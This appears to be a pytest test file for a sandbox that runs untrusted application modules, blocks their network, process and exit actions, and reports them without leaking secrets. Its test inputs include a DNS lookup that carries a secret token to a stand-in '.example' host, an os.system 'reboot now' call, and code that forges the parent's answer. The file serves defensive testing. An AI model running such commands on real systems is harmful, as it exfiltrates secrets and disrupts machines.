"""What foreign code may do in a guarded process, and what is told of it."""

import os
from pathlib import Path

import pytest

from assembler.adopt.guarded_process import ForeignCodeError, Observation, Outcome, run_guarded

_RUN = """
from assembler.adopt.guarded_process import said_of
from assembler.diagnostics.errors import AssemblerError
from assembler.adopt.target import compose

def run(argument, guard):
    app, root = compose(argument["target"], is_factory=argument.get("factory", False))
    return [type(app).__name__, root]

def run_all(argument, guard):
    told = []
    for target in argument["targets"]:
        try:
            compose(target, is_factory=False)
        except BaseException as error:
            told.append(str(error) if isinstance(error, AssemblerError) else said_of(target, error))
    return told
"""
_APP = "from fastapi import FastAPI\napp = FastAPI()\n"


def run(
    folder: Path, text: str, *, target: str = "own.main:app", seconds: float = 60, **more: object
) -> Outcome:
    """Run a module of that text as the application's."""
    (folder / "probe.py").write_text(_RUN)
    (folder / "own").mkdir(exist_ok=True)
    (folder / "own" / "main.py").write_text(text)
    return run_guarded(
        "probe:run",
        {"target": target, **more},
        environment=os.environ | {"PYTHONPATH": str(folder), "HIDDEN_TOKEN": "s3cret-canary-value"},
        folder=folder,
        seconds=seconds,
    )


def test_an_application_is_made_and_what_its_module_does_is_told_with_its_lines(
    tmp_path: Path,
) -> None:
    text = f"""
import os, socket, subprocess, sys, threading
print("hello")
threading.Thread(target=int, name="worker", daemon=True).start()
for act in (
    lambda: socket.create_connection(("db.example.com", 5432)),
    lambda: socket.socket().connect(("192.0.2.1", 80)),
    lambda: subprocess.run(["/bin/ls", "-l"]),
    lambda: os.system("reboot now"),
    lambda: os.fork(),
):
    try:
        act()
    except OSError as error:
        kind = type(error)
server = socket.create_server(("127.0.0.1", 0))
socket.create_connection(server.getsockname()).close()
threading.Thread(target=threading.Event().wait).start()
{_APP}"""
    found = run(tmp_path, text)
    assert found.value == ["FastAPI", "own.main"]
    file = "own/main.py"
    assert found.notes[:6] == (
        Observation("print", "standard output", file, 3),
        Observation("thread", "`worker`", file, 4),
        Observation("network", "db.example.com", file, 6),
        Observation("network", "192.0.2.1", file, 7),
        Observation("process", "`ls`", file, 8),
        Observation("process", "`reboot`", file, 9),
    )
    assert found.notes[2].text() == "was refused a connection to db.example.com (own/main.py:6)"
    assert [note.line for note in found.notes[6:]] == [10, 18]


_REFUSED = {
    "exits": ("import sys\nsys.exit('no licence')", "exits: `sys.exit('no licence')` (own/exits.py:2)"),
    "ends": ("import os\nos._exit(7)", "ends its process: `os._exit(7)` (own/ends.py:2)"),
    "lacks": (
        "import os\nX = os.environ['SHOP_URL']",
        "needs the variable `SHOP_URL` (own/lacks.py:2): set it, or name a file that does by `--env-file`",
    ),
    "settings": (
        """
from pydantic_settings import BaseSettings
class Settings(BaseSettings, env_prefix="SHOP_"):
    url: str
    token: str
settings = Settings()
""",
        "needs the variables `SHOP_URL`, `SHOP_TOKEN` (own/settings.py:6): set them, or name a file that does by `--env-file`",
    ),
    "raises": (
        "import os\nraise RuntimeError('bad ' + os.environ['HIDDEN_TOKEN'])",
        "failed (own/raises.py:2): RuntimeError: bad ${HIDDEN_TOKEN}",
    ),
    "exits_with_a_secret": (
        "import os, sys\nsys.exit('no ' + os.environ['HIDDEN_TOKEN'] + '\\n\\x1b[2J')",
        r"exits: `sys.exit('no ${HIDDEN_TOKEN}\n\x1b[2J')` (own/exits_with_a_secret.py:2)",
    ),
    "ends_with_a_secret": (
        "import os\nos._exit(os.environ['HIDDEN_TOKEN'])",
        "ends its process: `os._exit('${HIDDEN_TOKEN}')`",
    ),
    "exits_with_what_has_no_text": (
        "import sys\nclass No:\n    def __repr__(self): raise OSError\nsys.exit(No())",
        "exits: `sys.exit(an object of `No`)`",
    ),
    "exits_with_a_long_text": ("import sys\nsys.exit('x' * 10**7)", "x…"),
    "lacks_an_odd_name": (
        "import os\nos.environ['A\\n\\x1b[2J']",
        r"needs the variable `A\u000a\u001b[2J` (own/lacks_an_odd_name.py:2)",
    ),
    "raises_what_has_no_text": (
        "class Mute(Exception):\n    def __str__(self): raise OSError\nraise Mute",
        "failed (own/raises_what_has_no_text.py:3): Mute",
    ),
    "connects_to_a_secret": (
        "import os, socket\nsocket.getaddrinfo(os.environ['HIDDEN_TOKEN'] + '.example', 1)",
        "nothing but this machine is reached: ${HIDDEN_TOKEN}.example",
    ),
    "connects": (
        "import socket\nsocket.create_connection(('db.example.com', 1))",
        "cannot be read (own/connects.py:2): nothing but this machine is reached: db.example.com",
    ),
    "syntax": ("def (", "failed (own/syntax.py:1): SyntaxError: invalid syntax"),
    "number": ("app = 1", "is of type `int`, and no application"),
    "makes": ("def app(): ...", "is a function: is it a `--factory`?"),
}  # fmt: skip


def test_code_that_does_not_let_itself_be_run_is_told_in_one_line(tmp_path: Path) -> None:
    (tmp_path / "probe.py").write_text(_RUN)
    (tmp_path / "own").mkdir()
    (tmp_path / "own" / "empty.py").touch()
    for name, (text, _) in _REFUSED.items():
        (tmp_path / "own" / f"{name}.py").write_text(text)
    others = ["own.empty:app", "own.nowhere:app", "own.empty"]
    found = run_guarded(
        "probe:run_all",
        {"targets": [*(f"own.{name}:app" for name in _REFUSED), *others]},
        environment=os.environ | {"PYTHONPATH": str(tmp_path), "HIDDEN_TOKEN": "s3cret-canary"},
        folder=tmp_path,
    ).value
    for (name, (_, told)), line in zip(_REFUSED.items(), found[: len(_REFUSED)], strict=True):
        assert told in line, name
        assert line.startswith(("own.", "`own."))
    assert found[len(_REFUSED) :] == [
        "`own.empty` has no `app`",
        "there is no module `own.nowhere`: run from the project's folder",
        "`own.empty` names no application: write `module:app`",
    ]
    assert not any("\n" in line or "s3cret-canary" in line for line in found)


def test_a_process_that_ends_without_a_word_is_told_of(tmp_path: Path) -> None:
    with pytest.raises(ForeignCodeError) as caught:
        run(tmp_path, "import os\nos.kill(os.getpid(), 9)")
    assert str(caught.value) == "`own.main:app` was ended by the signal SIGKILL"


def test_what_is_noticed_shows_no_credential(tmp_path: Path) -> None:
    text = f"""
import os, socket, threading
token = os.environ.pop("HIDDEN_TOKEN")  # as careful code does
os.environ["LOADED_TOKEN"] = "another-canary"  # as a reader of `.env` does
for act in (
    lambda: socket.getaddrinfo(token + ".example", 1),
    lambda: os.system("A=" + token + " /bin/ls"),
    lambda: os.system("another-canary\\x1b[2J"),
):
    try:
        act()
    except OSError:
        pass
threading.Thread(target=int, name=token).start()
{_APP}"""
    told = [each.text() for each in run(tmp_path, text).notes]
    assert [each.partition(" (")[0] for each in told] == [
        "was refused a connection to ${HIDDEN_TOKEN}.example",
        "was refused another process: `A=${HIDDEN_TOKEN}`",
        r"was refused another process: `${LOADED_TOKEN}\u001b[2J`",
        "starts the thread `${HIDDEN_TOKEN}`",
    ]


@pytest.mark.parametrize(
    "text",
    [
        "import os\nfor each in range(3, 30):\n    try: os.write(each, b'[1]{')\n    except OSError: pass\n",
        "import json\njson.dumps = lambda *a, **k: '{}'\n",
        "import json\njson.dumps = lambda *a, **k: '[' * 99999\n",
    ],
)
def test_code_that_writes_the_answer_itself_is_told_of(tmp_path: Path, text: str) -> None:
    with pytest.raises(ForeignCodeError, match=r"^`own\.main:app` meddles with the process"):
        run(tmp_path, text + _APP)


def test_code_that_hangs_is_told_with_its_line(tmp_path: Path) -> None:
    text = "import threading\nthreading.Event().wait()\n"
    with pytest.raises(ForeignCodeError) as caught:
        run(tmp_path, text, seconds=1.5)
    assert "does not end within 1.5 s" in str(caught.value)
